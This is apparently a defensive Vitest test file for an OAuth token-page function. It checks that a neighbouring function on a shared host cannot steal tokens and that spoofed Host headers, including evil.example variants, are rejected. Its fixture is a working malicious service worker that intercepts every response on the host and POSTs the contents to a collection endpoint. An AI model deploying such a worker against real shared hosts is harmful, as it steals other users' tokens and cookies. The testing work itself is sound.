/** Attacks from other hosts and from functions that share a host, row by row as in SECURITY.md. */

import { once } from 'node:events';
import { createServer, type IncomingMessage, type RequestListener, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, it, onTestFinished } from 'vitest';
import { getTokens } from '../chromium.ts';
import { openPage, openStack, useChromium } from '../open.ts';

const chromium = useChromium();

it('Neighbour function: a service worker on a shared host reads the token page', async () => {
  const { url, serve, webex } = await openStack();
  const neighbour = startNeighbour(serve);
  const shared = await neighbour.listening;
  const { page, context } = await openPage(chromium());
  await page.goto(`${shared}/neighbour/page`);
  await page.waitForFunction(`document.title === 'ready'`);
  await getTokens(page, `${shared}/webex_teams_oauth`);
  expect(page.url()).toMatch(new RegExp(`^${url}/result/`));
  await page.waitForLoadState('networkidle');
  const values = await page.locator('code').allTextContents();
  expect(values).toHaveLength(3);
  expect(webex.control.isAlive(values[2]!)).toBe(true);
  for (const value of values) expect(neighbour.received()).not.toContain(value);
  for (const own of ['__Host-', 'GET TOKENS']) expect(neighbour.received()).not.toContain(own);
  const cookies = await context.cookies();
  expect(new Set(cookies.filter(({ name }) => name.startsWith('__Host-')).map(({ domain }) => domain))).toEqual(
    new Set([new URL(url).hostname]),
  );
});

it('Foreign host: a request to any other host of the function', async () => {
  const { url, stack, visitor, exchanges } = await openStack();
  const callback = await visitor().consent();
  const link = new URL(await stack.link(await stack.customer()));
  const { host } = new URL(url);
  const hosts = [
    'us-central1-access.cloudfunctions.net',
    'webex-teams-oauth-abcdefghij-uc.a.run.app',
    `${host}.evil.example`,
    `${host}@evil.example`,
    'localhost',
    'localhost:1',
    'evil.example',
    '',
  ];
  for (const foreign of hosts) {
    for (const path of [
      '/',
      '/authorize',
      link.pathname.slice('/webex_teams_oauth'.length),
      `/callback${callback.search}`,
    ]) {
      const { statusCode, headers } = await ask(url + path, foreign);
      expect(statusCode).toBe(303);
      expect(headers.location).toBe(url + path.replace(/\?.*/, ''));
      expect(headers['set-cookie']).toBeUndefined();
      expect(headers['cache-control']).toBe('no-store');
    }
    const { statusCode, headers } = await ask(link.href, foreign, 'POST');
    expect([statusCode, headers['set-cookie']]).toEqual([303, undefined]);
  }
  expect(exchanges()).toBe(0);
  expect((await ask(`${url}/authorize`, host.toUpperCase())).headers['set-cookie']).toHaveLength(1);
});

/** Sends a request with a `Host` header of its own. */
async function ask(address: string, host: string, method = 'GET'): Promise<IncomingMessage> {
  const { port, pathname, search } = new URL(address);
  const headers = { host, 'x-forwarded-host': new URL(address).host, 'sec-fetch-site': 'same-origin' };
  const sent = request({ host: '127.0.0.1', port, path: pathname + search, method, headers }).end();
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  response.resume();
  return response;
}

/** Sends the neighbour what it gets of any page of the host, and passes it on. */
const worker = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => event.respondWith((async () => {
  const response = await fetch(event.request);
  const body = event.request.url + await response.clone().text().catch(() => '');
  if (!event.request.url.includes('/neighbour/')) fetch('/neighbour/receive', { method: 'POST', body });
  return response;
})()));`;

const neighbourPage = `<script>
navigator.serviceWorker.register('/neighbour/worker.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = 'ready'; });
</script>`;

/** A host that a stranger's function shares with the token page, as on cloudfunctions.net. */
function startNeighbour(serveTokenPage: RequestListener) {
  let received = '';
  const files: Record<string, [type: string, body: string]> = {
    '/neighbour/page': ['text/html', neighbourPage],
    '/neighbour/worker.js': ['text/javascript', worker],
  };
  const server = createServer((request, response) => {
    if (!request.url!.startsWith('/neighbour/')) return serveTokenPage(request, response);
    received += JSON.stringify(request.headers);
    request.on('data', (chunk) => {
      received += chunk;
    });
    const [type, body] = files[request.url!] ?? ['text/plain', ''];
    response.writeHead(200, { 'content-type': type, 'service-worker-allowed': '/' }).end(body);
  });
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  // Another host name than the token page's, because cookies do not tell ports apart.
  const listening = once(server.listen(0, '127.0.0.1'), 'listening').then(
    () => `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
  );
  return { listening, received: () => received };
}
